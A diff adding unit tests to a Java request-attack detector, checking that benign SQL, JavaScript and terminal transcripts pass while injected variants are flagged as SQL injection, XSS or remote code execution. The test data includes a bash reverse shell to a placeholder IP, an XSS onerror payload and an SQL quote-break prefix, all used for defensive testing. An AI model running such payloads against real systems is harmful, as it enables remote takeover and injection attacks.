@@ -49,6 +49,33 @@ class ShownTextTest {
             rm -rf /tmp/build && mkdir -p /tmp/build
             """;
 
+    private static final String STATEMENTS =
+            """
+            BEGIN TRANSACTION;
+            INSERT INTO accounts (id, name) VALUES (1, 'O''Neil');
+            UPDATE accounts SET name = 'x' WHERE id = 1;
+            COMMIT;
+            """;
+
+    private static final String PROGRAM =
+            """
+            function validate(form) {
+              if (form.name.value == '' || form.age.value < 18) {
+                alert("Please fill in your name");
+                return false;
+              }
+              document.getElementById("msg").innerHTML = "it is ok";
+              return true;
+            }
+            """;
+
+    private static final String TRANSCRIPT =
+            """
+            $ docker logs web
+            Error: ENOENT: no such file, open '/app/.env'
+            $ ls -la /app; cat /app/package.json
+            """;
+
     private final RequestJudge judge = new RequestJudge(RequestJudge.Config.DEFAULTS);
 
     private Kind accused(PartKind part, String value) {
@@ -98,5 +125,31 @@ class ShownTextTest {
         assertEquals(
                 Kind.RCE,
                 accused(PartKind.FORM, SCRIPT + "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1\n"));
+    }
+
+    @Test
+    void leavesAFileOfSqlAloneInABodyOnly() {
+        assertEquals(null, accused(PartKind.FORM, STATEMENTS));
+        assertEquals(Kind.SQLI, accused(PartKind.QUERY, STATEMENTS));
+    }
+
+    @Test
+    void findsStatementsBehindAQuoteOnALineOfTheirOwn() {
+        assertEquals(Kind.SQLI, accused(PartKind.FORM, "x';\n" + STATEMENTS));
+    }
+
+    @Test
+    void leavesAProgramThatTalksToItsUserAlone() {
+        assertEquals(null, accused(PartKind.FORM, PROGRAM));
+        assertEquals(
+                Kind.XSS,
+                accused(
+                        PartKind.FORM,
+                        PROGRAM.replace("it is ok", "<img src=x onerror=alert(1)>")));
+    }
+
+    @Test
+    void leavesATranscriptOfATerminalAlone() {
+        assertEquals(null, accused(PartKind.FORM, TRANSCRIPT));
     }
 }
